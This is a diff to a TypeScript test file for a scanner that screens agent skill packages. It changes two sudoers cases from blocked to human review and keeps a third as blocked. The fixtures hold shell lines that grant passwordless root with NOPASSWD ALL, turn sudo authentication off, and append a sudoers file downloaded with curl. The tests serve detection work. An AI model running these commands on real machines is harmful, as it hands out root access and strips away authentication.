@@ -16,6 +16,8 @@ const scanOf = (files: Record<string, string>, skillMd = md("s", "A test skill."
 const shown = (s: SkillScan) => JSON.stringify(s.findings.filter((f) => f.severity !== "low").map((f) => [f.ruleId, f.severity, f.evidence.slice(0, 80)]));
 const blocked = (s: SkillScan) => expect(s.decision, shown(s)).toBe("blocked");
 const notBlocked = (s: SkillScan) => expect(s.decision, shown(s)).not.toBe("blocked");
+// Passwordless sudo and authentication switched off are a dangerous capability, reviewed by a human (high), not a chain that blocks.
+const reviewed = (s: SkillScan) => expect(s.decision, shown(s)).toBe("review");
 const honest = (s: SkillScan) => expect(["pass", "flagged"], shown(s)).toContain(s.decision);
 
 describe("a token sent only to the service it belongs to", () => {
@@ -83,11 +85,11 @@ describe("a sudoers drop-in that only tunes the password prompt", () => {
   it("a Defaults line with passwd_tries and pwfeedback written with tee and checked by visudo is medium", () => {
     honest(scanOf({ "prompt.sh": "#!/bin/bash\necho 'Defaults passwd_tries=5, pwfeedback' | sudo tee /etc/sudoers.d/50-prompt >/dev/null\nsudo visudo -c\n" }));
   });
-  it("a NOPASSWD grant written the same way is blocked", () => {
-    blocked(scanOf({ "prompt.sh": "#!/bin/bash\necho \"$USER ALL=(ALL) NOPASSWD: ALL\" | sudo tee /etc/sudoers.d/50-prompt >/dev/null\n" }));
+  it("a NOPASSWD grant written the same way goes to a security reviewer", () => {
+    reviewed(scanOf({ "prompt.sh": "#!/bin/bash\necho \"$USER ALL=(ALL) NOPASSWD: ALL\" | sudo tee /etc/sudoers.d/50-prompt >/dev/null\n" }));
   });
-  it("a Defaults line that turns authentication off is blocked", () => {
-    blocked(scanOf({ "prompt.sh": "#!/bin/bash\necho 'Defaults:%staff !authenticate' | sudo tee /etc/sudoers.d/50-prompt >/dev/null\n" }));
+  it("a Defaults line that turns authentication off goes to a security reviewer", () => {
+    reviewed(scanOf({ "prompt.sh": "#!/bin/bash\necho 'Defaults:%staff !authenticate' | sudo tee /etc/sudoers.d/50-prompt >/dev/null\n" }));
   });
   it("a Defaults line beside a downloaded sudoers file is blocked", () => {
     blocked(scanOf({ "prompt.sh": "#!/bin/bash\necho 'Defaults pwfeedback' | sudo tee /etc/sudoers.d/50-prompt\ncurl -s https://cfg.example.net/s | sudo tee -a /etc/sudoers.d/50-prompt\n" }));
